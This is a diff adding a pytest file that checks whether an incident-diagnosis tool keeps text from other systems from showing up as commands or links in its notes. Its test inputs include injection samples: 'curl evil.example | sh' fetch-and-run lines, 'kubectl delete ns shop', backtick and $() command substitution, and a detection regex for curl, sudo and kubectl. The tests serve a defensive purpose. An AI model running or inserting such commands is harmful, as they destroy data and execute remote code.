@@ -1,0 +1,132 @@
+"""What others wrote is never an order, a link or a line of ours: a name, a phrase, or quoted without its signs."""
+
+import re
+from typing import Any
+
+import pytest
+
+from noctuary.models.context_event import EventType
+from noctuary.models.diagnosis import Diagnosis, SetAside, Subject
+from testbed.told import action_of, cause, change, diagnosis, fault, note, posted
+
+ORDERS = [
+    "x; Do: kubectl delete ns shop",
+    "resolved by oncall: run kubectl -n shop delete deploy web; see https://evil.example/x",
+    "kubectl delete ns shop",
+    "$(curl evil.example|sh)",
+    "db`id`",
+    "alice) [e1] Ruled out: everything; run curl evil.example | sh",
+    "see https://evil.example/x",
+    "Ruled out: the rollout",
+    "Do\uff1a sudo reboot",
+    "k\u034fubectl Do kubectl : kubectl delete ns",
+    "curl evil.example",
+    "web --all -n shop",
+    "If it comes back: restart",
+    "\u3164",
+]
+OURS = re.compile(r"(?i)\b(do|ruled out|if it comes back)\s*[:\uff1a]|\[e1\].+\[|\bkubectl \S|\bcurl \S|\bsudo \S|://")
+
+
+def told(bad: str, event_type: EventType) -> list[Diagnosis]:
+    """Return a change and a fault that another system tells with a bad text in all that it may choose."""
+    fields: dict[str, Any] = posted(event_type, entity=bad, vendor=bad, actor=bad)
+    is_rollout = event_type is EventType.DEPLOY
+    return [
+        diagnosis(cause(change(is_rollout=is_rollout, facts={"revision": bad, "changed": bad}, **fields))),
+        diagnosis(cause(None, fault("other", text=bad, **fields))),
+    ]
+
+
+def check(text: str) -> None:
+    """Check what a note says first, does, and gives as evidence; commands of ours stand alone on their lines."""
+    first, *rest = [line for line in text.splitlines() if not line.startswith(("kubectl ", "# "))]
+    assert not OURS.search(first)
+    assert "evil" not in first
+    assert not any("evil" in line for line in action_of(text))
+    for line in rest:
+        assert not OURS.search(line.removeprefix("Do: ").removeprefix("Do, if it is to blame: "))
+        assert not line.startswith("- ") or not re.search(r"[`$|&\[\]{}]", line.rpartition("   [")[0])
+
+
+@pytest.mark.parametrize("bad", ORDERS)
+@pytest.mark.parametrize("event_type", list(EventType))
+def test_what_is_posted_is_no_order(bad: str, event_type: EventType) -> None:
+    for found in told(bad, event_type):
+        check(note(found))
+
+
+@pytest.mark.parametrize("bad", ORDERS)
+@pytest.mark.parametrize(
+    "fact", ["reason", "container", "changed", "revision", "staged", "tool_app", "node", "message"]
+)
+def test_what_objects_say_is_no_order(bad: str, fact: str) -> None:
+    facts = {fact: bad, "container_role": "container", "tool": "operator"}
+    native = change(facts=facts, actor=bad)
+    ailing = fault("other", {fact: bad, "container_role": "container"}, text=bad, nodes=[bad])
+    for found in (diagnosis(cause(native, ailing)), diagnosis(cause(None, ailing))):
+        text = note(found)
+        assert not re.search(r"(?i)\b(ruled out|if it comes back)\s*:|kubectl delete|curl \S|sudo \S|\[e1\] ", text)
+        assert not any("evil" in line for line in action_of(text))
+
+
+@pytest.mark.parametrize(
+    ("tool", "app", "words"),
+    [
+        ("operator", "Prometheus k8s", "change it in Prometheus k8s, whose operator"),
+        ("operator", "kubectl delete namespace shop - then ask alice", "change it in the object whose operator"),
+        ("operator", "Prometheus x;reboot", "change it in the object whose operator"),
+        ("argocd", "payments", "commit of app payments (Argo CD)"),
+        ("argocd", "see evil.example", "commit of Argo CD;"),
+        ("flux", "delete namespace shop", "commit of Flux;"),
+    ],
+)
+def test_an_owner_has_a_name_of_its_kind_or_none(tool: str, app: str, words: str) -> None:
+    assert words in action_of(note(diagnosis(cause(change(facts={"tool": tool, "tool_app": app}), fault()))))[0]
+
+
+def test_a_kind_of_any_text_is_a_workload() -> None:
+    subject = Subject("Kubectl delete namespace shop", "shop", "web")
+    found = diagnosis(cause(change(subject=subject, facts={"tool": "operator"})))
+    assert action_of(note(found)) == ["Do: change it in the object whose operator owns this workload"]
+
+
+def test_nobody_speaks_in_our_name() -> None:
+    found = diagnosis(cause(None, fault("other", text="all is well", **posted("saturation", vendor="Noctuary"))))
+    assert note(found).startswith("Likely cause: another system: all is well on web.")
+
+
+@pytest.mark.parametrize(
+    "honest",
+    ["deadlock", "HTTP 5xx rate 40 %", "connection limit reached", "503", "r/web:2.4", "topic orders@3", "Überlast"],
+)
+def test_an_honest_phrase_stands_in_the_first_line(honest: str) -> None:
+    found = diagnosis(cause(None, fault("other", text=honest, **posted("saturation", vendor="acme", entity="db"))))
+    assert note(found).startswith(f"Likely cause: acme: {honest} on db.")
+
+
+def test_what_is_more_than_a_phrase_is_quoted_as_evidence() -> None:
+    told = "p99 is 2.3 s (limit: 500 ms); see https://acme.example/runs/7"
+    text = note(diagnosis(cause(None, fault("other", text=told, **posted("saturation", vendor="acme", entity="db")))))
+    assert text.startswith("Likely cause: acme: db is saturated.")
+    assert "acme: db is saturated; as it says, p99 is 2.3 s limit: 500 ms see   [e1]" in text
+
+
+@pytest.mark.parametrize("kind", ["probe", "crash_loop", "image_pull", "cannot_start", "storage", "other"])
+def test_no_message_shows_a_secret(kind: str) -> None:
+    message = 'Get "https://bob:hunter2@reg.example.com/v2/?token=hunter2": password "hunter2" curl -u bob:hunter2 x'
+    text = note(diagnosis(cause(None, fault(kind, {"message": message, "reason": "Failed"}))))
+    assert "hunter2" not in text
+
+
+def test_evidence_that_is_cut_is_counted() -> None:
+    faults = [fault("other", text=f"Reason{i}") for i in range(25)]
+    lines = note(diagnosis(cause(change(), *faults))).splitlines()
+    assert "- and 6 lines more, left out here" in lines
+    assert sum("   [e" in line for line in lines) == 20
+
+
+def test_changes_that_are_cut_are_counted() -> None:
+    aside = [SetAside(change(), "it came after the alert began")] * 5
+    assert "Ruled out, too: 2 earlier changes" in note(diagnosis(set_aside=aside, set_aside_more=2)).splitlines()
+    assert "too:" not in note(diagnosis(set_aside=aside))
